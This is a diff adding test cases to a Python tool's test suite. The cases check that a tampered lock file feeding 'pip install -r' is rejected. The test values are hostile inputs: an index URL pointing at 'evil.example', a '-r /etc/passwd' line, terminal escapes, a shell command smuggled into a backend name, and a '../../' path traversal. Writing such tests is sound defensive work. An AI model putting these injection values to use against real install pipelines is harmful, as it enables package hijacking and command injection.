@@ -778,6 +778,90 @@ def _lock_deep(root: Path) -> None:
     (root / "trtflow.lock").write_text("[" * 100000 + "]" * 100000)
 
 
+# the lock is untrusted input (issue 42): a lock from a pull request may say anything, and `trtflow toolchain` feeds
+# `pip install -r`. Each edit below rehashes the entry's key, so only the value check can refuse it.
+
+
+def _locked(kind: str, field: str, value: object, rehash: bool = True) -> Callable[[Path], None]:
+    """Set fingerprint `field` of every `kind` entry of the lock to `value` (and its key to the components' hash)."""
+
+    def edit(root: Path) -> None:
+        from trtflow.hashing import stage_key
+
+        data = json.loads((root / "trtflow.lock").read_text())
+        for node, entry in data["nodes"].items():
+            if node.startswith(kind + ":") and "key" in entry:
+                entry["fingerprint"][field] = value
+                if rehash:
+                    components = {k: entry[k] for k in ("kind", "version", "params", "fingerprint", "inputs")}
+                    entry["key"] = stage_key(components)
+        (root / "trtflow.lock").write_text(json.dumps(data))
+
+    return edit
+
+
+TOOLCHAIN, DOCTOR, FROZEN = ("toolchain",), ("doctor",), ("run", "--frozen")
+for name, value in [
+    ("editable-install", "1.21.0\n-e /some/folder"),
+    ("index-url", "1.21.0\n--index-url https://evil.example/simple"),
+    ("another-requirements-file", "1.21.0\n-r /etc/passwd"),
+    ("hash-option", "1.21.0 --hash=sha256:" + "0" * 64),
+    ("environment-marker", '1.21.0; python_version < "1"'),
+    ("terminal-escape", "1.21.0\x1b[2J\x1b]0;pwned\x07"),
+]:
+    for args in (TOOLCHAIN, DOCTOR, FROZEN):
+        add(
+            f"lock-version-{name}-{args[-1].strip('-')}",
+            "built",
+            args,
+            3,
+            "is not a",
+            _locked("cleanup", "onnx", value),
+        )
+add(
+    "lock-backend-with-a-command",
+    "built",
+    TOOLCHAIN,
+    3,
+    "is not a plain name",
+    _locked("build", "backend", "tensorrt-rtx; touch pwned"),
+)
+add(
+    "lock-backend-unknown",
+    "built",
+    TOOLCHAIN,
+    3,
+    "is not a backend of this trtflow",
+    _locked("build", "backend", "tensorrt-rtz"),
+)
+add(
+    "lock-version-not-pep440",
+    "built",
+    TOOLCHAIN,
+    3,
+    "is not a version (PEP 440)",
+    _locked("cleanup", "onnx", "latest-and-greatest"),
+)
+add(
+    "lock-entry-not-hashing-to-its-key",
+    "built",
+    FROZEN,
+    3,
+    "its key is not the hash of its components",
+    _locked("build", "backend_version", "1.7.1.117", rehash=False),
+)
+add(
+    "lock-output-digest-a-path",
+    "built",
+    FROZEN,
+    3,
+    "is not a sha256 digest",
+    lambda root: (root / "trtflow.lock").write_text(
+        (root / "trtflow.lock").read_text().replace('"engine": "', '"engine": "../../', 1)
+    ),
+)
+
+
 # remote records ----------------------------------------------------------------------------------------------------
 
 REMOTE = "remote"
